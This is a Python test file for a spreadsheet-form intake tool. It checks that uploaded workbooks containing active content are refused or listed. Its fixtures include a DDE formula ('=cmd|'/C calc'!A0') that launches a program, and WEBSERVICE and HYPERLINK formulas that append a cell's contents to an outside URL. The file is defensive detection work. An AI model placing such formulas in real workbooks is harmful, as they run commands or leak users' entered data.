"""What a blank can do by itself: what fetches or sends is refused, the rest is listed."""

import io

import pytest
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from tests.blanks.banded import BANDED
from tests.workbook.packages import form_with
from wizard.core.intake.binding import bind_blank
from wizard.core.intake.blank_intake import Intake
from workbook.forms.active_content import activities
from workbook.opened import OpenedWorkbook
from workbook.xlsx.editing.part_xml import RELATIONS
from workbook.xlsx.guard.unreadable import UnreadableError

SHEET = "利用申込書"

ACTING = {
    "a web service": '=WEBSERVICE("https://example.co.jp/?"&D15)',
    "a web service by its file name": '=_xlfn.WEBSERVICE("https://example.co.jp/")',
    "a web service in small letters": '=1+webservice ("x")',
    "a real-time server": '=RTD("a.b",,"x")',
    "a picture from elsewhere": '=_xlfn.IMAGE("https://example.co.jp/"&D15)',
    "a cube": '=CUBEVALUE("x","y")',
    "a program by DDE": "=cmd|'/C calc'!A0",
    "a link made of a cell": '=HYPERLINK("https://example.co.jp/?"&D15,"送信")',
    "a link made of a name": "=HYPERLINK(business.code)",
    "a link made of a sum of texts": '=HYPERLINK(CONCATENATE("https://",$D$15))',
}
HARMLESS = {
    "a reference": "=D15",
    "a condition": '=IF(D15="","未記入","")',
    "a link": '=HYPERLINK("https://www.occto.or.jp/","広域機関")',
    "a link with a text of a cell": '=HYPERLINK("https://www.occto.or.jp/",D15)',
    "words that are none": '="WEBSERVICE(1) と cmd|x"',
    "a bar in the name of a sheet": "='申込|書'!A1",
}


def with_formula(formula: str) -> bytes:
    book = load_workbook(io.BytesIO(BANDED.draw()))
    book[SHEET]["Z3"] = formula
    return saved(book)


def saved(book: object) -> bytes:
    packed = io.BytesIO()
    book.save(packed)  # type: ignore[attr-defined]  # a workbook of openpyxl
    return packed.getvalue()


@pytest.mark.parametrize("formula", ACTING.values(), ids=ACTING)
def test_a_formula_that_fetches_or_sends_is_refused_with_its_cell(formula: str) -> None:
    content = with_formula(formula)
    with pytest.raises(UnreadableError) as raised:
        bind_blank(content)
    assert raised.value.code == "active-content"
    assert f"（{SHEET}!Z3）" in raised.value.why
    with pytest.raises(UnreadableError):
        Intake().load("様式.xlsx", content)


@pytest.mark.parametrize("formula", HARMLESS.values(), ids=HARMLESS)
def test_another_formula_is_listed_with_its_cell(formula: str) -> None:
    found = bind_blank(with_formula(formula)).activities
    assert [(one.what, one.where) for one in found] == [(f"数式 {formula[1:]}", f"{SHEET}!Z3")]


def test_a_formula_that_acts_is_found_in_conditions_choices_and_names() -> None:
    fetch = 'WEBSERVICE("https://example.co.jp/?"&$D$15)'
    book = load_workbook(io.BytesIO(BANDED.draw()))
    rule = FormulaRule([f'{fetch}=""'], font=Font(bold=True))  # type: ignore[no-untyped-call]
    book[SHEET].conditional_formatting.add("D15", rule)
    with pytest.raises(UnreadableError):
        bind_blank(saved(book))

    book = load_workbook(io.BytesIO(BANDED.draw()))
    choice = DataValidation("custom", formula1=fetch)
    choice.add("D15")
    book[SHEET].add_data_validation(choice)
    with pytest.raises(UnreadableError):
        bind_blank(saved(book))

    book = load_workbook(io.BytesIO(BANDED.draw()))
    book.defined_names["x"] = DefinedName("x", attr_text=fetch)
    with pytest.raises(UnreadableError) as raised:
        bind_blank(saved(book))
    assert "名前 x" in raised.value.why


PARTS = {
    "connections": ("xl/connections.xml", b"<connections/>", "データ接続", True),
    "a query": ("xl/queryTables/queryTable1.xml", b"<queryTable/>", "データ接続", True),
    "a link by DDE": (
        "xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>",
        "ほかのプログラムとの連携（DDE）", True,
    ),
    "another workbook": (
        "xl/externalLinks/externalLink1.xml", b"<externalLink><externalBook/></externalLink>",
        "別のブックへのリンク", False,
    ),
    "a control of ActiveX": (
        "xl/activeX/activeX1.xml", b"<ocx/>", "ActiveXコントロール", False,
    ),
    "an object": ("xl/embeddings/oleObject1.bin", b"x", "埋め込みオブジェクト", False),
    "a macro of a button": (
        "xl/drawings/vmlDrawing9.vml",
        b'<xml xmlns:x="urn:x"><x:FmlaMacro>[0]!go</x:FmlaMacro></xml>', "マクロの呼び出し", False,
    ),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content", "what", "acts"), PARTS.values(), ids=PARTS)
def test_a_part_that_acts_is_reported(name: str, content: bytes, what: str, *, acts: bool) -> None:
    found = activities(OpenedWorkbook(form_with({name: content})))
    assert [(one.what, one.is_acting) for one in found] == [(what, acts)]


def test_links_that_are_printed_are_listed() -> None:
    book = load_workbook(io.BytesIO(BANDED.draw()))
    book[SHEET]["Z3"].hyperlink = "https://www.occto.or.jp/"
    found = bind_blank(saved(book)).activities
    assert [(one.what, one.where) for one in found] == [("リンク https://www.occto.or.jp/", SHEET)]


def test_a_blank_of_nothing_but_print_and_boxes_does_nothing() -> None:
    assert bind_blank(BANDED.draw()).activities == ()


EXTERNAL = {
    "a picture that is fetched": (f"{RELATIONS}/image", True),
    "a linked object": (f"{RELATIONS}/oleObject", True),
    "a link that somebody clicks on": (f"{RELATIONS}/hyperlink", False),
}


@pytest.mark.parametrize(("kind", "acts"), EXTERNAL.values(), ids=EXTERNAL)
def test_what_is_fetched_when_the_form_is_opened_is_refused(kind: str, *, acts: bool) -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}" Target="https://example.co.jp/" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    drawn = {"xl/drawings/drawing9.xml": b"<x/>", "xl/drawings/_rels/drawing9.xml.rels": rels}
    opened = OpenedWorkbook(form_with(drawn))
    assert any(one.is_acting for one in activities(opened)) == acts
